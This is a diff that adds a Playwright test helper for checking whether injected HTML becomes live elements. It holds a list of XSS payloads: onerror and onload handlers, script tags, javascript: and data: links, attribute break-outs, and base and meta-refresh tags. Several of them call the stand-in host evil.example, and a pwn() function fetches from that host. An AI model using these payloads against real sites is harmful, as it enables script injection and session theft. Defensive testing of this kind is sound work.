@@ -1,0 +1,58 @@
+/** Markup that somebody writes where a text belongs: each marks the element that it would become. */
+import type { BrowserContext, Frame, Page } from "@playwright/test";
+
+const host = "https://evil.example";
+
+export const shapes: [name: string, markup: (mark: string) => string][] = [
+  ["a picture with onerror", (mark) => `<img src=x onerror=pwn() ${mark}>`],
+  ["a picture of another host", (mark) => `<img src=${host}/i ${mark}>`],
+  ["a drawing with onload", (mark) => `<svg onload=pwn() ${mark}></svg>`],
+  ["a script", (mark) => `<script ${mark}>pwn()</script>`],
+  ["a script in letters of both cases", (mark) => `<sCrIpT ${mark}>pwn()</ScRiPt>`],
+  ["a script of another host", (mark) => `<script src=${host}/s ${mark}></script>`],
+  ["a frame with a page of its own", (mark) => `<iframe srcdoc="<script>parent.pwn()</script>" ${mark}></iframe>`],
+  ["a frame with a javascript: address", (mark) => `<iframe src=javascript:pwn() ${mark}></iframe>`],
+  ["an attribute that is broken out of with a quote", (mark) => `"><b onmouseover=pwn() ${mark}>x</b>`],
+  ["an attribute that is broken out of with an apostrophe", (mark) => `'><i onclick=pwn() ${mark}>x</i>`],
+  ["a link with a javascript: address", (mark) => `<a href=javascript:pwn() ${mark}>x</a>`],
+  ["a link with a data: address", (mark) => `<a href="data:text/html,<script>pwn()</script>" ${mark}>x</a>`],
+  ["details with ontoggle", (mark) => `<details open ontoggle=pwn() ${mark}></details>`],
+  ["a field that takes the focus", (mark) => `<input autofocus onfocus=pwn() ${mark}>`],
+  ["a film whose source fails", (mark) => `<video ${mark}><source onerror=pwn() src=${host}/v></video>`],
+  ["an object", (mark) => `<object data=${host}/o ${mark}></object>`],
+  ["an embedded file", (mark) => `<embed src=${host}/e ${mark}>`],
+  ["a style sheet that imports another", (mark) => `<style ${mark}>@import url(${host}/c)</style>`],
+  ["a link to a style sheet", (mark) => `<link rel=stylesheet href=${host}/l ${mark}>`],
+  ["a form", (mark) => `<form action=${host} ${mark}><button>x</button></form>`],
+  ["a base address", (mark) => `<base href=${host}/ ${mark}>`],
+  ["a page that reloads itself elsewhere", (mark) => `<meta http-equiv=refresh content="600;url=${host}" ${mark}>`],
+  ["markup inside of formulas", (mark) => `<math><mtext><img src=${host}/m ${mark}></mtext></math>`],
+  ["an element of a name of its own", (mark) => `<x-y onclick=pwn() ${mark}>x</x-y>`],
+];
+
+export const payloads = shapes.map(([, markup], index) => markup(`data-pwn=${index}`));
+
+/** Where markup became an element, by its number: the surfaces, and the requests that it sent. */
+export type Found = Map<number, Set<string>>;
+
+const note = (found: Found, number: number, where: string): void => void found.set(number, (found.get(number) ?? new Set()).add(where));
+
+/** From now on whatever runs of it says so in a request, and each of its requests is noted. */
+export async function watchMarkup(context: BrowserContext): Promise<Found> {
+  const found: Found = new Map();
+  await context.addInitScript(() => Object.assign(globalThis, { pwn: () => fetch("https://evil.example/pwned").catch(() => undefined) }));
+  context.on("request", (request) => {
+    if (!request.url().startsWith(host)) return;
+    const index = shapes.findIndex(([, markup]) => markup("").includes(request.url()));
+    note(found, Math.max(0, index), `a request to ${request.url()}`);
+  });
+  return found;
+}
+
+/** Notes what became an element in a page or the card. */
+export async function noteMarked(found: Found, place: Page | Frame, surface: string): Promise<void> {
+  const numbers = await place.evaluate(() =>
+    [...document.querySelectorAll("[data-pwn]")].map((element) => Number(element.getAttribute("data-pwn"))),
+  );
+  for (const number of numbers) note(found, number, surface);
+}
